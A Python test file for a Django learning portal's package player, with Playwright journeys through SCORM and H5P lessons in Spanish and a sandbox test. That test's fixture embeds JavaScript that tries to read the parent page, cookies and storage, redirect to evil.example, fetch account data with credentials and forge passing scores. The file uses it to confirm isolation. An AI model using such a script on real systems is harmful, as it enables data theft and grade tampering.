"""Packages on a phone: played to the end and gone on with; and what a package cannot reach, whatever it tries."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import override_settings
from playwright.sync_api import Browser, Locator, Page, expect

from tests.factories.packages import Files, make_package, scorm
from tests.trainaction.conftest import Taught, academy, taught
from tests.trainaction.learning import Learning, learning
from tests.trainaction.test_packages import put_in
from trainaction.demo.interactive import packed
from trainaction.models import InteractivePackage, PackagePart, PackageResult

__all__ = ["Taught", "academy", "learning", "taught"]

pytestmark = pytest.mark.django_db(transaction=True)

SHOTS = os.environ.get("JOURNEY_SHOTS")
FRAME = "iframe.player__frame"


def shot(page: Page, name: str) -> None:
    if SHOTS:
        page.screenshot(path=str(Path(SHOTS) / f"packages-{name}.png"), full_page=True)


def begin(page: Page, said: str) -> Locator:
    return page.locator("[data-start]").filter(has_text=said)


def until(page: Page, is_so: Callable[[], bool]) -> None:
    """Wait for what is on its way to the server, five seconds at most."""
    for _time in range(50):
        if is_so():
            return
        page.wait_for_timeout(100)
    raise AssertionError


def test_a_scorm_package_is_played_to_its_end_and_gone_on_with(
    live_server: Any, phone: Page, sign_in: Callable[..., None], axe: Callable[..., list[str]], learning: Learning
) -> None:
    package = make_package(packed("sources"), title="Registro o encuesta")
    put_in(learning, package)
    sign_in(phone, learning.person.user)
    phone.goto(f"{live_server.url}{learning.lesson_url(0)}")
    assert axe(phone) == []
    begin(phone, "Empezar").click()
    frame = phone.frame_locator(FRAME)
    expect(frame.get_by_text("Situación 1 de 5")).to_be_visible()
    shot(phone, "scorm")
    for kind in ("Registro administrativo", "Encuesta"):
        frame.get_by_role("button", name=kind).click()
        frame.get_by_role("button", name="Seguir").click()
    expect(phone.get_by_role("status").filter(has_text="Empezada")).to_be_visible()
    phone.get_by_role("button", name="Cerrar la actividad").click()
    expect(begin(phone, "Empezar")).to_be_visible()
    until(phone, lambda: PackagePart.objects.get().kept.get("suspend_data") == "01")

    phone.get_by_role("link", name="Abrirla en una página propia").click()
    assert axe(phone) == []
    begin(phone, "Continuar").click()
    expect(frame.get_by_text("Situación 3 de 5")).to_be_visible()
    for kind in ("Ninguno de los dos", "Registro administrativo", "Registro administrativo"):
        frame.get_by_role("button", name=kind).click()
        frame.get_by_role("button", name="Seguir").click()
    expect(frame.get_by_text("Acertó 4 de 5.")).to_be_visible()
    expect(phone.get_by_role("status").filter(has_text="Aprobada: 80 %")).to_be_visible()
    shot(phone, "scorm-done")
    part = PackagePart.objects.get()
    assert (part.sitting, part.state, part.kept["suspend_data"]) == (2, "passed", "01200")
    assert PackageResult.objects.get().state == "passed"


def test_an_h5p_package_is_played_to_its_end_and_gone_on_with(
    live_server: Any, phone: Page, sign_in: Callable[..., None], learning: Learning
) -> None:
    put_in(learning, make_package(packed("cards"), title="Cinco palabras"))
    sign_in(phone, learning.person.user)
    frame = phone.frame_locator(FRAME)

    def turn(knew: bool) -> None:
        frame.get_by_role("button", name="Ver qué quiere decir").click()
        frame.get_by_role("button", name="Lo sabía" if knew else "No lo sabía", exact=True).click()

    phone.goto(f"{live_server.url}{learning.lesson_url(0)}")
    begin(phone, "Empezar").click()
    turn(True)
    turn(False)
    shot(phone, "h5p")
    until(phone, lambda: PackagePart.objects.get().kept.get("h5p") == '{"answers":[true,false]}')
    phone.reload()
    begin(phone, "Continuar").click()
    expect(frame.get_by_text("Palabra 3 de 5")).to_be_visible()
    for _card in range(3):
        turn(True)
    expect(frame.get_by_text("De 5 palabras, sabía 4.")).to_be_visible()
    expect(phone.get_by_role("status").filter(has_text=": 80 %")).to_be_visible()
    assert PackageResult.objects.get().state in ("completed", "passed")


REACHING = """<!doctype html><html><head><meta charset="utf-8"></head><body><p id="said">…</p><script>
var tries = {
  "the page above": function () { return window.top.document.title; },
  "its address": function () { return window.top.location.href; },
  "leading it away": function () { window.top.location = "https://evil.example/"; return "asked"; },
  "its cookies": function () { return document.cookie; },
  "its storage": function () { return localStorage.getItem("secret"); },
  "its own parent": function () { return window.parent === window ? "itself" : "another"; }
};
var said = {};
Object.keys(tries).forEach(function (name) {
  try { said[name] = String(tries[name]()); } catch (refused) { said[name] = refused.name; }
});
var asks = { "the portal": "/es/account/my-data/", "another package": "/packages/x/files/a.js", "the world": "https://evil.example/" };
Promise.all(Object.keys(asks).map(function (name) {
  return fetch(asks[name], { credentials: "include" }).then(function (answer) { return answer.text(); })
    .then(function (text) { said[name] = text.slice(0, 20); }).catch(function (refused) { said[name] = refused.name; });
})).then(function () {
  API.LMSInitialize("");
  API.LMSSetValue("cmi.suspend_data", JSON.stringify(said));
  API.LMSCommit("");
  window.top.postMessage({ portal: "package", result: { state: "passed", score: 99, kept: {} } }, "*");
  window.top.postMessage({ portal: "package", result: { state: "passed", score: 1, kept: { token: "x" } } }, "*");
  var inner = document.createElement("iframe");
  inner.src = "inner.html";
  document.body.append(inner);
  document.getElementById("said").textContent = "tried";
});
</script></body></html>"""
INNER = """<!doctype html><script>
window.top.postMessage({ portal: "package", result: { state: "passed", score: 1, kept: {} } }, "*");
</script>dentro"""


def test_a_package_that_reaches_for_the_portal_gets_nothing(
    live_server: Any, browser: Browser, sign_in: Callable[..., None], learning: Learning
) -> None:
    put_in(learning, make_package(scorm({"index.html": REACHING, "inner.html": INNER, "a.js": "1"})))
    context = browser.new_context(locale="es-GT")
    page = context.new_page()
    sign_in(page, learning.person.user)
    page.goto(f"{live_server.url}{learning.lesson_url(0)}")
    page.evaluate("localStorage.setItem('secret', 'x')")
    begin(page, "Empezar").click()
    frame = page.frame_locator(FRAME)
    expect(frame.get_by_text("tried")).to_be_visible()
    expect(frame.frame_locator("iframe").get_by_text("dentro")).to_be_visible()
    expect(page.locator("[data-said]")).to_contain_text("no se pudo leer")
    assert page.url == f"{live_server.url}{learning.lesson_url(0)}"
    page.get_by_role("button", name="Cerrar la actividad").click()
    expect(begin(page, "Empezar")).to_be_visible()
    part = PackagePart.objects.get()
    said = json.loads(part.kept["suspend_data"])
    refused = "SecurityError"
    assert said == {
        "the page above": refused, "its address": refused, "leading it away": refused, "its cookies": "",
        "its storage": "null", "its own parent": "itself", "the portal": "TypeError", "another package": "TypeError",
        "the world": "TypeError",
    }  # fmt: skip
    assert (part.state, part.score) == ("opened", None)
    context.close()


OUTER_2004 = """<!doctype html><html><head><title>Marco</title></head><body><iframe title="Contenido" src="inner.html"></iframe></body></html>"""
INNER_2004 = """<!doctype html><html><head><title>Contenido</title></head><body><script>
var api = window.parent.API_1484_11;
api.Initialize("");
api.SetValue("cmi.score.scaled", "0.9");
api.SetValue("cmi.completion_status", "completed");
api.SetValue("cmi.success_status", "passed");
api.SetValue("cmi.location", localStorage.getItem("visited") || "first");
localStorage.setItem("visited", "again");
api.Commit("");
</script>dentro <button onclick="api.SetValue('adl.nav.request', 'continue'); api.Terminate('');">Seguir</button></body></html>"""
SECOND_2004 = """<!doctype html><html><head><title>Segunda</title></head><body><p id="said"></p><script>
var api = window.API_1484_11;
api.Initialize("");
document.getElementById("said").textContent = ["continue", "previous", "choice.{target=i1}"].map(function (way) {
  return api.GetValue("adl.nav.request_valid." + way);
}).join(" ");
api.SetValue("cmi.completion_status", "completed");
api.Commit("");
</script></body></html>"""
FLOW = '<imsss:sequencing><imsss:controlMode choice="false" flow="true"/></imsss:sequencing>'


def test_on_a_host_of_their_own_packages_of_several_frames_work_and_lead_from_part_to_part(
    live_server: Any, phone: Page, sign_in: Callable[..., None], learning: Learning
) -> None:
    files: Files = {"index.html": OUTER_2004, "inner.html": INNER_2004, "dos.html": SECOND_2004}
    content = scorm(files, "index.html", "dos.html", version="2004 4th Edition", order=FLOW)
    put_in(learning, make_package(content))
    other = live_server.url.replace("localhost", "127.0.0.1")
    assert other != live_server.url
    with override_settings(PACKAGE_ORIGIN=other):
        sign_in(phone, learning.person.user)
        phone.goto(f"{live_server.url}{learning.lesson_url(0)}")
        expect(begin(phone, "Parte 2")).to_be_disabled()
        begin(phone, "Parte 1").click()
        inner = phone.frame_locator(FRAME).frame_locator("iframe")
        expect(inner.get_by_text("dentro")).to_be_visible()
        inner.get_by_role("button", name="Seguir").click()
        expect(phone.frame_locator(FRAME).get_by_text("false true false")).to_be_visible()
        expect(phone.get_by_role("button", name="Parte anterior")).to_be_visible()
        expect(phone.get_by_role("status").filter(has_text="Aprobada: 90 %")).to_be_visible()
    part = PackagePart.objects.get(part="i1")
    assert (part.state, part.kept["location"], part.kept["success"]) == ("passed", "first", "passed")
    assert InteractivePackage.objects.get().kind == "scorm2004"
